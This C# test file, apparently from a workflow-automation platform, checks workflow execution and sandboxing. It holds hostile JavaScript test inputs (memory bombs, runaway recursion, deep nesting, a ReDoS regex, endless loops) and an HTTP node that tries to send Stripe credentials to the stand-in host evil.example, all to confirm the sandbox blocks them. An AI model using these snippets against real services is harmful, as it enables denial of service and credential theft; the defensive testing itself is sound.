using System.Text.Json.Nodes;
using Patchbay.Tests.Contract;
using Patchbay.Tests.Infrastructure;
using Xunit;
using static Patchbay.Tests.Workflows.WorkflowApi;

namespace Patchbay.Tests.Executions;

// Executing a published workflow: sync (the response inline) and async (queued for the worker), read back node by
// node through the executions API; hostile code fails only its own node.
public abstract class ExecuteTests(PatchbayApp app)
{
    static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task SyncExecute_RunsCodeConditionAndResponse_ReturnsInline()
    {
        var (key, account) = await OrgAsync(app);
        var client = app.ClientFor(key, account);
        var (_, version) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());

        using var big = await client.SendAsync(Execute(version, new { amount = 60, email = "a@b.test" }, sync: true), Ct);
        var result = await ApiAssert.JsonAsync(big, 201);
        RefoldOpenApi.AssertResponse("POST", "/api/v2/public/workflow/{workflowId}/execute", 200, result);
        Assert.Equal("""{"size":"big","total":120}""", result.GetProperty("return_value").GetRawText());
        Assert.False(result.GetProperty("errored").GetBoolean());
        Assert.Equal(201, result.GetProperty("status_code").GetInt32());

        using var small = await client.SendAsync(Execute(version, new { amount = 5, email = "a@b.test" }, sync: true), Ct);
        var smallResult = await ApiAssert.OkAsync(small);
        Assert.Equal("total is 10 for a@b.test", smallResult.GetProperty("return_value").Str("text"));

        var detail = await ExecutionAsync(client, smallResult.Str("execution_id"));
        Assert.Equal("COMPLETED", detail.Str("status"));
        Assert.Equal(100, detail.GetProperty("completion_percentage").GetInt32());
        Assert.Equal("SYNC", detail.Str("type_of_execution"));
        Assert.Equal("API Call", detail.Str("trigger_application_event"));
        Assert.Equal(["start", "double", "big", "no"], detail.GetProperty("nodes").EnumerateArray().Select(n => n.Str("node_id")));
        Assert.All(detail.GetProperty("nodes").EnumerateArray(), n => Assert.Equal("Success", n.Str("node_status")));
        Assert.Equal(10, detail.GetProperty("nodes")[1].GetProperty("latest_output").GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task AsyncExecute_IsQueued_ThenRunByTheWorker()
    {
        var (key, account) = await OrgAsync(app);
        var client = app.ClientFor(key, account);
        var (draft, version) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone(), alias: "double-it-" + Guid.NewGuid().ToString("N")[..6]);
        var started = await ApiAssert.OkAsync(await client.SendAsync(Execute(version, new { amount = 1 }, sync: false), Ct));
        Assert.Equal("Workflow execution started", started.Str("message"));
        var id = started.Str("execution_id");
        Assert.Equal("RUNNING", (await ExecutionAsync(client, id)).Str("status"));
        await DrainAsync(app);
        var done = await ExecutionAsync(client, id);
        Assert.Equal("COMPLETED", done.Str("status"));
        var response = await ApiAssert.OkAsync(await client.GetAsync($"/api/v1/execution/{id}/response", Ct));
        Assert.Equal("small", response.GetProperty("response").Str("size"));

        // v1 by alias, by draft id.
        var alias = (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/workflow/{draft}", Ct))).Str("workflow_alias");
        var v1 = await ApiAssert.OkAsync(await client.PostAsync($"/api/v1/workflow/{alias}/execute", Body(new { amount = 100 }), Ct));
        Assert.Equal(["execution_id"], v1.EnumerateObject().Select(p => p.Name));
        var list = await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=RUNNING", Ct));
        RefoldOpenApi.AssertResponse("GET", "/api/v2/public/execution", 200, list);
        Assert.Equal(1, list.GetProperty("totalDocs").GetInt32());
        await DrainAsync(app);
        Assert.Equal(0, (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=RUNNING", Ct))).GetProperty("totalDocs").GetInt32());
        Assert.Equal(2, (await ApiAssert.OkAsync(await client.GetAsync($"/api/v2/public/execution?workflow_id={draft}&status=COMPLETED&execution_source=API_CALL", Ct))).GetProperty("totalDocs").GetInt32());
    }

    // Code runs get minutes in tests (PatchbayApp), so each snippet is stopped by the limit it is written to hit, not
    // by the clock of a busy machine; the time limit is CodeTimeLimitTests'.
    [Fact]
    public async Task HostileCode_FailsOnlyItsNode_WithAClearError()
    {
        var (key, account) = await OrgAsync(app);
        var client = app.ClientFor(key, account);
        foreach (var (code, message) in new[]
        {
            ("const a = []; while (true) { a.push('x'.repeat(1000000)); }", "MB"),        // memory
            ("function f(n) { return f(n + 1) + 1; } return f(0);", "recursed deeper"),   // recursion
            ("return globalThis.System === undefined && typeof require === 'undefined' ? eval('1') : 'host';", "String compilation has been disabled"), // no eval, no host
            // These crashed the server before code ran in sandbox processes (a stack overflow cannot be caught).
            ("let o = []; for (let i = 0; i < 100000; i++) o = [o]; return o;", "nested deeper than 48 levels"),
            // These ran past their limits inside one statement.
            ("return 'x'.repeat(2 ** 27).length;", "MB"),
            ("return new ArrayBuffer(2 ** 29).byteLength;", "MB"),
            ("return Atomics.wait(new Int32Array(new SharedArrayBuffer(16)), 0, 0, 20000);", "Atomics.wait cannot be used"),
        })
        {
            await AssertNodeFailsAsync(client, code, message);
        }
        // 100,000 levels serialized inside one native call (it crashed the server before sandboxes): the sandbox either
        // finishes it with the right answer (100,001 arrays: 200,002 brackets) or, on a starved machine, stops it at the
        // time limit; never another outcome, and the server stays up (checked below).
        var (_, deep) = await PublishAsync(client, Graph([Node("start", "start"),
            Node("deep", "code", new { code = "let o = []; for (let i = 0; i < 100000; i++) o = [o]; return JSON.stringify(o).length;" })], [Edge("start", "deep")]));
        using var deepResponse = await client.SendAsync(Execute(deep, new { }, sync: true), Ct);
        var deepRun = System.Text.Json.JsonDocument.Parse(await deepResponse.Content.ReadAsStringAsync(Ct)).RootElement;
        var deepNode = (await ExecutionAsync(client, deepRun.Str("execution_id"))).GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "deep");
        if (deepNode.Str("node_status") == "Errored") Assert.Contains("the script ran longer than", deepNode.Str("error"));
        else Assert.Equal(200002, deepNode.GetProperty("latest_output").GetInt32());
        // A connected app's credentials go only to its own API.
        var (_, leak) = await PublishAsync(client, Graph([Node("start", "start"), Node("steal", "http", new { app = "stripe", path = "https://evil.example/x" })],
            [Edge("start", "steal")]));
        var leaked = await ApiAssert.JsonAsync(await client.SendAsync(Execute(leak, new { }, sync: true), Ct), 500);
        Assert.Contains("must be a path on Stripe's API", (await ExecutionAsync(client, leaked.Str("execution_id"))).Str("error"));
        // The server is fine.
        var (_, ok) = await PublishAsync(client, (JsonObject)CodeFlow.DeepClone());
        await ApiAssert.OkAsync(await client.SendAsync(Execute(ok, new { amount = 1 }, sync: true), Ct));
    }

    // Runs the code in a node of its own workflow, synchronously: the execution and that node errored with the message.
    internal static async Task AssertNodeFailsAsync(HttpClient client, string code, string message)
    {
        var (_, version) = await PublishAsync(client, Graph([Node("start", "start"), Node("evil", "code", new { code })], [Edge("start", "evil")]));
        var response = await client.SendAsync(Execute(version, new { }, sync: true), Ct);
        Assert.True(response.StatusCode == System.Net.HttpStatusCode.InternalServerError,
            $"`{code}` should fail its node with '{message}', got {(int)response.StatusCode}: {await response.Content.ReadAsStringAsync(Ct)}");
        var result = await ApiAssert.JsonAsync(response, 500);
        Assert.True(result.GetProperty("errored").GetBoolean());
        var detail = await ExecutionAsync(client, result.Str("execution_id"));
        Assert.Equal("ERRORED", detail.Str("status"));
        var node = detail.GetProperty("nodes").EnumerateArray().Single(n => n.Str("node_id") == "evil");
        Assert.Equal("Errored", node.Str("node_status"));
        Assert.Contains(message, node.Str("error"));
    }
}

public sealed class SqliteExecuteTests(SqliteApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<SqliteApp<FakeProviderOptions>>;
public sealed class PostgresExecuteTests(PostgresApp<FakeProviderOptions> app) : ExecuteTests(app), IClassFixture<PostgresApp<FakeProviderOptions>>;

// Code that only the clock stops, under the default 2 s limit: the node fails with the time limit's message, whatever
// the machine's load (these snippets never end by themselves within their statement budget).
public abstract class CodeTimeLimitTests(PatchbayApp app)
{
    [Fact]
    public async Task EndlessCode_FailsOnlyItsNode_AtTheTimeLimit()
    {
        var (key, account) = await OrgAsync(app);
        var client = app.ClientFor(key, account);
        await ExecuteTests.AssertNodeFailsAsync(client, "while (true) {}", "ran"); // its statements or its time
        await ExecuteTests.AssertNodeFailsAsync(client, "return /(a+)+$/.test('a'.repeat(40) + 'b');", "ran longer than 2000 ms");
    }
}

public sealed class SqliteCodeTimeLimitTests(SqliteApp<CodeTimeLimitOptions> app) : CodeTimeLimitTests(app), IClassFixture<SqliteApp<CodeTimeLimitOptions>>;
public sealed class PostgresCodeTimeLimitTests(PostgresApp<CodeTimeLimitOptions> app) : CodeTimeLimitTests(app), IClassFixture<PostgresApp<CodeTimeLimitOptions>>;
